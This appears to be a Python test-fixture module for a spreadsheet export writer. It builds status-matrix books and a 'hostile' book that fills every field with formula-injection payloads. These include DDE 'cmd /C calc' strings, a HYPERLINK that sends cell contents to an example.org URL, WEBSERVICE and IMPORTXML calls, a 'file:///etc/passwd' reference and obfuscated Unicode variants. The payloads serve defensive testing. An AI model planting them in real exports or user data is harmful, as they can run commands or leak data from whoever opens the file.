"""Books for the tests of the export writer: hostile, odd and large ones."""

import datetime as dt
import io
import re
import zipfile
from xml.etree import ElementTree

from cdrp_portal.spreadsheets import (
    Book,
    Column,
    Kind,
    Sheet,
)
from cdrp_portal.spreadsheets.plain import could_be_formula

AS_AT = dt.datetime(2026, 10, 14, 13, 32, tzinfo=dt.UTC)
STATUSES = ["green", "amber", "red", "less_relevant", "not_assessed"]
WORDS = ["Green", "Amber", "Red", "Less relevant", "Not assessed"]
FORMULAS = [
    "=1+1",
    "=1+1|",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?x="&A1,"open")',
    '=IMPORTXML("https://example.org","//a")',
    '=WEBSERVICE("https://example.org")',
    '=IMAGE("https://example.org/x.png")',
    "='file:///etc/passwd'#$Sheet1.A1",
    "=[book.xlsx]Sheet1!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    "a\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "{=1+1}",
    "of:=1+1",
    '="a"&"b"',
    "-2+3+cmd|' /C calc'!D2",
    "+44 20 7202 0202",
    "-5",
    "=A1:A9",
    '=DDE("cmd";"/C calc";"x")',
    "https://example.org/",
    "mailto:demo@example.org",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "\\\\server\\share",
    "=",
    "@",
    "%0A=1+1",
    "=1+1;x,y",
]


def book_of(values, kind=Kind.TEXT, **more):
    """One value a row, beside a number that shows which."""
    columns = [Column("number", "Number", kind=Kind.NUMBER), Column("value", "Value", kind=kind)]
    rows = list(enumerate(values))
    return Book("Round trip", [Sheet("Values", columns, rows)], as_at=AS_AT, **more)


def matrix(rows=33, columns=25):
    heads = [Column("borough", "Borough", 22)] + [
        Column(f"e{n}", f"E{n} Information-sharing protocol", 14, Kind.STATUS) for n in range(columns)
    ]
    values = [
        [f"Borough {row}", *(STATUSES[(row * 7 + column) % 5] for column in range(columns))]
        for row in range(rows)
    ]
    return Book(
        "Health-check matrix",
        [Sheet("Matrix", heads, values, total=33)],
        as_at=AS_AT,
        filters=[("Theme", "Information and intelligence")],
        key=[("Green", "in place with evidence")],
        demonstration=True,
    )


def hostile_book(payloads):
    """Every payload in every column that can hold text, and in every other text of the file."""
    kinds = [Kind.TEXT, Kind.TEXT, Kind.STATUS, Kind.NUMBER, Kind.DATE]
    columns = [Column(f"c{n}", f"{payloads[n]} {n}", kind=kind) for n, kind in enumerate(kinds)]
    rows = [[payload] * len(kinds) for payload in payloads]
    pairs = [(payload, payload) for payload in payloads]
    return Book(
        payloads[0], [Sheet(payloads[5], columns, rows)], as_at=AS_AT, filters=pairs, notes=pairs, key=pairs
    )


def unguarded(text):
    """What stood in the database, by the documented rule."""
    return text[1:] if text.startswith("'") and could_be_formula(text) else text


def tables_of(content):
    xml = ElementTree.fromstring(zipfile.ZipFile(io.BytesIO(content)).read("content.xml"))  # noqa: S314 - our own
    return xml.findall(".//{urn:oasis:names:tc:opendocument:xmlns:table:1.0}table")


def assert_opendocument(content):
    """What every reader needs of the package: type first and plain, each part well formed and listed."""
    package = zipfile.ZipFile(io.BytesIO(content))
    assert package.testzip() is None
    first = package.infolist()[0]
    assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
    assert package.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
    parts = {name for name in package.namelist() if name.endswith(".xml")}
    for name in parts:
        ElementTree.fromstring(package.read(name))  # noqa: S314 - our own
    listed = set(re.findall(rb'full-path="([^"/]+\.xml)"', package.read("META-INF/manifest.xml")))
    assert {name.encode() for name in parts} - {b"META-INF/manifest.xml"} == listed
